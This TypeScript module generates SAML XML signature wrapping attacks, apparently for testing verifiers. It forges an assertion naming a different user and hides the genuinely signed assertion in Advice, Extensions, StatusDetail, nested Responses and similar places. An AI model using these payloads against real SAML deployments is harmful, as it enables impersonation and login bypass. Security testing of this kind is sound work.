// Where a second assertion can stand while the first is read.

import { findElement, parseXml } from '../xml-tree.ts';
import type { XmlElement } from '../xml-tree.ts';
import { replaceFirst } from '../xml-text.ts';
import { VICTIM } from './attack.ts';
import type { AttackContext } from './attack.ts';
import { respond } from './compose.ts';

/** Stands where the assertion that is looked for will be. */
export const HOST = '@@host@@';

/** The pieces of an honest response that wrapping plays with. */
export interface Pieces {
  readonly xml: string;
  /** The signed assertion, the same without its signature, and that signature. */
  readonly good: string;
  readonly bare: string;
  readonly signature: string;
  /** The forged assertion; carries the honest ID or one of its own. */
  readonly evil: string;
  /** The response with something else in place of its assertion. */
  readonly shell: (content: string) => string;
}

export type Place = readonly [name: string, put: (pieces: Pieces, guest: string) => string];

/** Places inside a forged assertion where the genuine one can hide. */
export const INSIDE: readonly Place[] = [
  [
    'in its Advice',
    ({ evil }, guest) =>
      replaceFirst(evil, '</saml:Conditions>', `</saml:Conditions><saml:Advice>${guest}</saml:Advice>`),
  ],
  ['in its Subject', ({ evil }, guest) => replaceFirst(evil, '</saml:Subject>', `${guest}</saml:Subject>`)],
  [
    'in its Conditions',
    ({ evil }, guest) => replaceFirst(evil, '</saml:Conditions>', `${guest}</saml:Conditions>`),
  ],
  [
    'in its SubjectConfirmationData',
    ({ evil }, guest) =>
      replaceFirst(
        evil,
        /(<saml:SubjectConfirmationData[^>]*)\/>/u,
        (match) => `${match.slice(0, -2)}>${guest}</saml:SubjectConfirmationData>`,
      ),
  ],
  [
    'in an AttributeValue of it',
    ({ evil }, guest) => replaceFirst(evil, /<saml:AttributeValue>/u, (match) => match + guest),
  ],
  [
    'in its AuthnContextDecl',
    ({ evil }, guest) =>
      replaceFirst(
        evil,
        '</saml:AuthnContext>',
        `<saml:AuthnContextDecl>${guest}</saml:AuthnContextDecl></saml:AuthnContext>`,
      ),
  ],
  [
    'as its last child',
    ({ evil }, guest) => replaceFirst(evil, '</saml:Assertion>', `${guest}</saml:Assertion>`),
  ],
  ['as its first child', ({ evil }, guest) => replaceFirst(evil, '<saml:Issuer>', `${guest}<saml:Issuer>`)],
];

/** Places in the response beside the assertion that is looked for. */
export const BESIDE: readonly Place[] = [
  ['before it', ({ shell }, guest) => shell(guest + HOST)],
  ['behind it', ({ shell }, guest) => shell(HOST + guest)],
  ['in Extensions', ({ shell }, guest) => extended(shell(HOST), guest)],
  [
    'in StatusDetail',
    ({ shell }, guest) =>
      replaceFirst(
        shell(HOST),
        '</samlp:Status>',
        `<samlp:StatusDetail>${guest}</samlp:StatusDetail></samlp:Status>`,
      ),
  ],
  [
    'in StatusMessage',
    ({ shell }, guest) =>
      replaceFirst(
        shell(HOST),
        '</samlp:Status>',
        `<samlp:StatusMessage>${guest}</samlp:StatusMessage></samlp:Status>`,
      ),
  ],
  [
    'in a foreign element',
    ({ shell }, guest) => shell(`${HOST}<x:box xmlns:x="urn:example:box">${guest}</x:box>`),
  ],
  [
    'in an EncryptedAssertion',
    ({ shell }, guest) => shell(`${HOST}<saml:EncryptedAssertion>${guest}</saml:EncryptedAssertion>`),
  ],
  [
    'in a Response of its own',
    ({ shell }, guest) => shell(`${HOST}<samlp:Response ID="_inner" Version="2.0">${guest}</samlp:Response>`),
  ],
  [
    'in the Issuer of the response',
    ({ shell }, guest) => replaceFirst(shell(HOST), '</saml:Issuer>', `${guest}</saml:Issuer>`),
  ],
];

export function withSignature({ evil }: Pieces, signature: string): string {
  return replaceFirst(evil, '</saml:Issuer>', `</saml:Issuer>${signature}`);
}

export function piecesOf(context: AttackContext, evilId: string | null): Pieces {
  const { xml, assertionId } = respond(context);
  const assertion = childOf(parseXml(xml), 'Assertion');
  const signatureElement = childOf(assertion, 'Signature');
  const signature = xml.slice(signatureElement.start, signatureElement.end);
  const good = xml.slice(assertion.start, assertion.end);
  const bare = replaceFirst(good, signature, '');
  const renamed = evilId === null ? bare : bare.replaceAll(assertionId, evilId);
  const shell = (content: string) => xml.slice(0, assertion.start) + content + xml.slice(assertion.end);
  return { xml, good, bare, signature, evil: renamed.replaceAll(VICTIM.honest, VICTIM.wanted), shell };
}

export function extended(xml: string, content: string): string {
  return replaceFirst(xml, '<samlp:Status>', `<samlp:Extensions>${content}</samlp:Extensions><samlp:Status>`);
}

export function childOf(element: XmlElement, localName: string): XmlElement {
  const child = findElement(
    element,
    (candidate) => candidate.parent === element && candidate.localName === localName,
  );
  if (!child) throw new TypeError(`There is no ${localName}.`);
  return child;
}
